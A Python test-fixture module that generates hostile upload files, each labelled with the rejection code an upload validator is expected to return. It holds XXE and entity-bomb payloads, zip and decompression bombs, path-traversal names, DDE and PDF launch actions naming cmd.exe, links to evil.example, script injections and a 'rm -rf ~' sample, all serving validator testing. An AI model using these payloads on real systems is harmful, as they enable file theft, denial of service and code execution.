"""Files that must not be let in, made here and nowhere kept: (what it is, name, bytes, code of the reason)."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable, Iterator
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream

from tests.infra.uploads.archives import Part, archive, office, plain_zip, relations
from tests.world import PDF

MIB = 1024 * 1024
# The harmless text that every virus scanner knows; in two halves, so that this file is not found itself.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
DTD = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
BILLION = (
    b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><x>&c;</x>'
)
LINK, FOLDER = 0xA1FF0000, 0x41ED0000

Case = tuple[str, str, bytes, str]


def hostile() -> Iterator[Case]:
    """All of them."""
    yield from _by_size_and_type()
    yield from _of_two_kinds()
    yield from _archives()
    yield from _office()
    yield from _pdfs()


def _by_size_and_type() -> Iterator[Case]:
    yield "nothing", "a.pdf", b"", "file_empty"
    yield "one byte too many", "a.txt", b"a" * (50 * MIB + 1), "file_too_large"
    yield "a page with a script as PDF", "a.pdf", b"<html><script>alert(1)</script>", "file_not_what_it_says"
    yield "a page as text", "a.txt", b"<!DOCTYPE html><script>alert(1)</script>", "file_type_not_allowed"
    yield "a page as table", "a.csv", b" \n<HTML><body>1;2</body>", "file_type_not_allowed"
    yield "a page in UTF-16", "a.txt", "<html>".encode("utf-16"), "file_type_not_allowed"
    yield "a page behind a mark", "a.txt", b"\xef\xbb\xbf<script>", "file_type_not_allowed"
    yield "a drawing that runs", "a.svg", b"<svg onload='alert(1)'/>", "file_type_not_allowed"
    yield "a drawing as text", "a.txt", b"<svg onload='alert(1)'/>", "file_type_not_allowed"
    yield "a drawing as picture", "a.png", b"<svg onload='alert(1)'/>", "file_not_what_it_says"
    yield "a program", "a.exe", b"MZ\x90\x00" + bytes(60), "file_type_not_allowed"
    yield "a program as PDF", "a.pdf", b"MZ\x90\x00" + bytes(60), "file_not_what_it_says"
    yield "a shell script as text", "a.txt", b"#!/bin/sh\nrm -rf ~\n", "file_type_not_allowed"
    yield "a picture that is a script", "a.txt", b"GIF89a=1;alert(1)", "file_type_not_allowed"
    yield "a picture of a kind not taken", "a.gif", b"GIF89a" + bytes(20), "file_type_not_allowed"
    yield "an old document", "a.doc", COMPOUND + bytes(600), "file_type_not_allowed"
    yield "an old document as new", "a.docx", COMPOUND + bytes(600), "file_not_what_it_says"
    yield "text with a NUL", "a.txt", b"a\x00b", "file_type_not_allowed"
    yield "text that steers a terminal", "a.txt", b"\x1b[2Jhej", "file_type_not_allowed"
    yield "a PDF as picture", "a.png", PDF, "file_type_differs"
    yield "a PDF without an extension", "utan", PDF, "file_type_differs"
    yield "a PDF whose name turns", "\u202efdp.exe", PDF, "file_type_differs"
    yield "a sheet as document", "a.docx", office("xlsx"), "file_type_differs"
    yield "a document made for macros", "a.docm", office("docx"), "file_type_differs"
    yield "the test virus", "a.txt", EICAR, "file_with_virus"
    yield "the test virus in a PDF", "a.pdf", PDF + b"%" + EICAR, "file_with_virus"
    yield (
        "the test virus packed",
        "a.docx",
        office("docx", Part("word/media/a.bin", EICAR)),
        "file_with_virus",
    )


def _of_two_kinds() -> Iterator[Case]:
    inner = plain_zip({"a.exe": b"MZ"})
    yield "a PDF with an archive behind", "a.pdf", PDF + inner, "file_of_two_kinds"
    yield "a picture with an archive behind", "a.png", picture() + inner, "file_of_two_kinds"
    yield "a picture with a page behind", "a.png", picture() + b"<script>", "file_of_two_kinds"
    yield (
        "a photo with an archive behind",
        "a.jpg",
        b"\xff\xd8\xff\xe0" + bytes(9) + inner,
        "file_of_two_kinds",
    )
    yield "a photo with a PDF in front", "a.jpg", b"\xff\xd8\xff\xe0" + PDF, "file_of_two_kinds"
    yield "a photo with a script", "a.jpg", b"\xff\xd8\xff\xe0<?php x ?>", "file_of_two_kinds"
    yield "a document with something behind", "a.docx", office("docx", after=b"MZ"), "file_of_two_kinds"
    yield "a document with a PDF in front", "a.docx", office("docx", before=PDF), "file_type_differs"
    yield "a PDF that is a document too", "a.pdf", office("docx", before=PDF), "file_of_two_kinds"
    yield "an archive in front of a document", "a.docx", inner + office("docx"), "file_damaged"
    yield "a picture of many kilometres", "a.png", picture(60_000, 60_000), "file_unpacks_too_large"
    yield "half a picture", "a.png", picture()[:-9], "file_damaged"


def _archives() -> Iterator[Case]:
    yield "an archive", "a.zip", plain_zip({"a.txt": b"a"}), "file_type_not_allowed"
    yield "an archive as document", "a.docx", plain_zip({"a.txt": b"a"}), "file_not_what_it_says"
    yield "an empty archive", "a.docx", b"PK\x05\x06" + bytes(18), "file_not_what_it_says"
    yield "the beginning of an archive", "a.docx", b"PK\x03\x04" + bytes(200), "file_damaged"
    yield "half an archive", "a.docx", office("docx")[:-30], "file_damaged"
    many = [Part(f"word/{number}.xml") for number in range(1000)]
    yield "more than a thousand parts", "a.docx", office("docx", *many), "file_too_many_parts"
    yield "parts that are not there", "a.docx", archive([Part("a")], count=900), "file_damaged"
    bomb = Part("word/a.xml", bytes(30 * MIB))
    yield "thirty megabytes of nothing", "a.docx", office("docx", bomb), "file_unpacks_too_large"
    huge = Part("word/a.xml", unpacked=4_000_000_000)
    yield "four gigabytes by its own word", "a.docx", office("docx", huge), "file_unpacks_too_large"
    small = Part("word/a.xml", bytes(30 * MIB), unpacked=10)
    yield "a bomb that says it is small", "a.docx", office("docx", small), "file_unpacks_too_large"
    swarm = [Part(f"word/{number}.bin", bytes(MIB)) for number in range(210)]
    yield "two hundred small bombs", "a.docx", office("docx", *swarm), "file_unpacks_too_large"
    yield "a part that lies", "a.docx", office("docx", Part("word/a.xml", unpacked=9)), "file_damaged"
    yield (
        "a link to another file",
        "a.docx",
        office("docx", Part("word/l", b"/etc/passwd", external=LINK)),
        ("file_with_hidden_parts"),
    )
    over = office("docx", Part("word/b.xml", b"<x/>", own_name="word/document.xml", offset=0))
    yield "a part called otherwise inside", "a.docx", over, "file_damaged"
    twice = [Part("[Content_Types].xml"), Part("word/document.xml"), Part("[Content_Types].xml", offset=0)]
    yield "a part that is there twice", "a.docx", archive(twice), "file_with_hidden_parts"
    upper = office("docx", Part("WORD/Document.xml"))
    yield "a part in other letters", "a.docx", upper, "file_with_hidden_parts"
    composed = office("docx", Part("word/å.xml", flags=0x800), Part("word/a\u030a.xml", flags=0x800))
    yield "a name written in two ways", "a.docx", composed, "file_with_hidden_parts"
    for name in ("../../etc/passwd", "/etc/passwd", "..\\..\\x", "C:\\x", "word/./a", "word//a", "a\r\nb"):
        yield f"a part called {name!r}", "a.docx", office("docx", Part(name)), "file_with_hidden_parts"
    yield "a part under a password", "a.docx", office("docx", Part("word/a.xml", flags=1)), "file_encrypted"
    yield "an unusual packing", "a.docx", office("docx", Part("word/a.xml", method=14)), "file_damaged"
    yield "parts that lie over each other", "a.docx", _overlapping(), "file_with_hidden_parts"


def _overlapping() -> bytes:
    """The third part's packed bytes hold a whole fourth part, which the directory names as well."""
    inner = archive([Part("word/inner.bin", b"x" * 50, method=0)])
    outer = Part("word/outer.bin", inner[: inner.index(b"PK\x01\x02")], method=0)
    first = [Part("[Content_Types].xml"), Part("word/document.xml")]
    start = archive(first).index(b"PK\x01\x02") + 30 + len(outer.name)
    return archive([*first, outer, Part("word/inner.bin", b"x" * 50, method=0, offset=start)])


def _office() -> Iterator[Case]:
    def case(what: str, code: str, *parts: Part, kind: str = "docx", **more: bytes) -> Case:
        return what, f"a.{kind}", office(kind, *parts, **more), code

    yield case("macros", "file_with_macros", Part("word/vbaProject.bin", COMPOUND))
    yield case("macros in capital letters", "file_with_macros", Part("word/VBAPROJECT.BIN", COMPOUND))
    stream = COMPOUND + bytes(600) + "_VBA_PROJECT".encode("utf-16-le") + bytes(600)
    yield case("macros called otherwise", "file_with_macros", Part("word/settings.bin", stream))
    across = COMPOUND + b"x" * (256 * 1024 - 18) + "_VBA_PROJECT".encode("utf-16-le")
    yield case("macros across two pieces", "file_with_macros", Part("word/a.bin", across))
    declared = b'<Types><Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    yield case("macros by their type", "file_with_macros", types=declared)
    template = b'<Types><Default Extension="xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    yield case("a document for macros renamed", "file_with_macros", types=template)
    active = b'<Types><Override PartName="/a" ContentType="application/vnd.ms-office.activeX+xml"/></Types>'
    yield case("a control that runs", "file_with_macros", types=active)
    packed = COMPOUND + bytes(600) + "\x01Ole10Native".encode("utf-16-le") + b"MZ"
    yield case("a program packed in an object", "file_with_files", Part("word/embeddings/o.bin", packed))
    yield case(
        "a program for a picture", "file_with_files", Part("word/media/image1.png", b"MZ\x90\x00" + bytes(99))
    )
    yield case("a PDF inside", "file_with_files", Part("word/embeddings/a.bin", PDF))
    yield case("an archive inside", "file_with_files", Part("word/a.bin", plain_zip({"a": b"a"})))
    yield case(
        "an archive where sheets lie",
        "file_with_files",
        Part("word/embeddings/a.zip", plain_zip({"a": b"a"})),
    )
    nested = office("xlsx", Part("xl/embeddings/b.xlsx", office("xlsx")))
    yield case("sheets in sheets", "file_with_files", Part("word/embeddings/a.xlsx", nested))
    inner = office("xlsx", Part("xl/vbaProject.bin", COMPOUND), types=declared)
    yield case("macros in a sheet inside", "file_with_macros", Part("word/embeddings/a.xlsx", inner))
    for what, bomb in (("an entity from elsewhere", DTD), ("entities of entities", BILLION)):
        yield case(what, "file_with_declarations", Part("word/styles.xml", bomb))
        yield case(f"{what} in the types", "file_with_declarations", types=bomb)
    utf16 = DTD.replace(b' version="1.0"', b' version="1.0" encoding="utf-16"').decode().encode("utf-16")
    yield case("an entity in UTF-16", "file_with_declarations", Part("word/a.xml", utf16))
    yield case(
        "an entity in a sheet", "file_with_declarations", Part("xl/worksheets/sheet1.xml", DTD), kind="xlsx"
    )
    yield case("XML that does not end", "file_damaged", main=b"<w>")
    for kind, target in (
        ("attachedTemplate", "https://evil.example/a.dotm"),
        ("attachedTemplate", "file://evil.example/share/a.dotx"),
        ("attachedTemplate", "\\\\evil.example\\share\\a.dotx"),
        ("oleObject", "http://evil.example/a.html!x"),
        ("image", "http://evil.example/pixel.png"),
        ("frame", "http://evil.example/"),
        ("hyperlink", "file:///C:/Windows/System32/calc.exe"),
        ("hyperlink", "\\\\evil.example\\share"),
        ("hyperlink", "javascript:alert(1)"),
    ):
        yield case(f"{kind} at {target}", "file_with_links", relations("document.xml", (kind, target)))
    book = Part("xl/externalLinks/_rels/e.xml.rels", relations("x", ("externalLinkPath", "other.xlsx")).data)
    yield case("a link to another workbook", "file_with_links", book, kind="xlsx")
    dde = b"<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"
    yield case(
        "a program started by a sheet", "file_with_links", Part("xl/externalLinks/e1.xml", dde), kind="xlsx"
    )
    field = b"<w:p xmlns:w='w'><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\cmd</w:instrText></w:p>"
    yield case("a program started by a field in two halves", "file_with_links", main=field)
    simple = b"<w:fldSimple xmlns:w='w' w:instr=' DDEAUTO c:\\\\cmd '/>"
    yield case("a program started by a field", "file_with_links", main=simple)


def _pdfs() -> Iterator[Case]:
    def case(what: str, code: str, change: Callable[[pikepdf.Pdf], None], **save: Any) -> Case:
        return what, "a.pdf", pdf(change, **save), code

    yield "only the beginning", "a.pdf", b"%PDF-1.7\n", "file_damaged"
    yield "a PDF without pages", "a.pdf", pdf(lambda document: document.pages.__delitem__(0)), "file_damaged"
    yield "two thousand and one pages", "a.pdf", pdf(lambda d: _pages(d, 2001)), "file_too_many_pages"
    script = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
    yield case("a script at opening", "file_with_actions", lambda d: _root(d, "/OpenAction", script))
    yield case("a script in hiding", "file_with_actions", lambda d: _root(d, "/X", Array([Array([script])])))
    hidden = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
    yield case("a script in a packed object", "file_with_actions", lambda d: _root(d, "/OpenAction", hidden),
               object_stream_mode=pikepdf.ObjectStreamMode.generate)  # fmt: skip
    page = Dictionary(O=script)
    yield case("a script of a page", "file_with_actions", lambda d: d.pages[0].obj.__setitem__("/AA", page))
    for action in ("Launch", "SubmitForm", "ImportData", "GoToE", "GoToR", "Rendition", "Sound", "Movie"):
        made = Dictionary(S=Name("/" + action), F="cmd.exe")
        yield case(
            f"an action that is {action}", "file_with_actions", lambda d, m=made: _root(d, "/OpenAction", m)
        )
    yield case(
        "a form that runs", "file_with_actions", lambda d: _root(d, "/AcroForm", Dictionary(XFA=Array()))
    )
    rich = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia)
    yield case("a film", "file_with_actions", lambda d: _annotate(d, rich))
    yield case("a program attached", "file_with_files", lambda d: _attach(d, b"MZ\x90\x00" + bytes(40)))
    yield case("an archive attached", "file_with_files", lambda d: _attach(d, b"7z\xbc\xaf'\x1c" + bytes(40)))
    yield case("a page attached", "file_with_files", lambda d: _attach(d, b"<html><script>"))
    yield case("three hundred megabytes of nothing", "file_unpacks_too_large", lambda d: _packed(d, 300))
    yield case("twice packed", "file_unpacks_too_large", _packed_twice)
    yield case("a picture larger than it says", "file_unpacks_too_large", _picture_bomb)
    yield case("a picture without end", "file_unpacks_too_large", _endless_picture)
    yield case("a description with entities", "file_with_declarations", lambda d: _describe(d, BILLION))
    yield case("bookmarks in a circle", "file_damaged", _circle)
    locked = pikepdf.Encryption(owner="a", user="b")
    yield case("a PDF under a password", "file_encrypted", lambda d: None, encryption=locked)


def pdf(change: Callable[[pikepdf.Pdf], Any], **save: Any) -> bytes:
    """A PDF of one page that `change` has been at."""
    stored = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        change(document)
        document.save(stored, compress_streams=False, **save)
    return stored.getvalue()


def picture(width: int = 1, height: int = 1) -> bytes:
    """A PNG of one line of zeros, whatever size it claims."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))

    size = struct.pack(">2L5B", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", size)
        + chunk(b"IDAT", zlib.compress(bytes(2)))
        + chunk(b"IEND", b"")
    )


def _root(document: pikepdf.Pdf, name: str, value: Any) -> None:
    document.Root[name] = value


def _pages(document: pikepdf.Pdf, count: int) -> None:
    for _number in range(count - 1):
        document.add_blank_page()


def _annotate(document: pikepdf.Pdf, annotation: Any) -> None:
    document.pages[0].obj["/Annots"] = Array([document.make_indirect(annotation)])


def _attach(document: pikepdf.Pdf, content: bytes) -> None:
    document.attachments["data.csv"] = content


def _raw(document: pikepdf.Pdf, data: bytes, **keys: Any) -> None:
    stream = Stream(document, b"")
    stream.write(data, filter=keys.pop("filter"))
    for name, value in keys.items():
        stream["/" + name] = value
    document.Root["/X"] = stream


def _packed(document: pikepdf.Pdf, megabytes: int) -> None:
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(bytes(MIB)) for _number in range(megabytes)) + packer.flush()
    _raw(document, data, filter=Name.FlateDecode)


def _packed_twice(document: pikepdf.Pdf) -> None:
    twice = zlib.compress(zlib.compress(bytes(MIB)))
    _raw(document, twice, filter=Array([Name.FlateDecode, Name.FlateDecode]))


def _picture_bomb(document: pikepdf.Pdf) -> None:
    data = zlib.compress(bytes(20 * MIB))
    _raw(document, data, filter=Name.FlateDecode, Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1)


def _endless_picture(document: pikepdf.Pdf) -> None:
    size = {"Width": 60_000, "Height": 60_000}
    _raw(document, zlib.compress(b""), filter=Name.FlateDecode, Type=Name.XObject, Subtype=Name.Image, **size)


def _describe(document: pikepdf.Pdf, description: bytes) -> None:
    stream = Stream(document, description)
    stream["/Type"], stream["/Subtype"] = Name.Metadata, Name.XML
    # A page may be described as well; of the whole document the library writes the description anew.
    document.pages[0].obj["/Metadata"] = stream


def _circle(document: pikepdf.Pdf) -> None:
    one = document.make_indirect(Dictionary(Title="a"))
    one["/Next"] = one
    document.Root["/Outlines"] = Dictionary(First=one, Last=one)
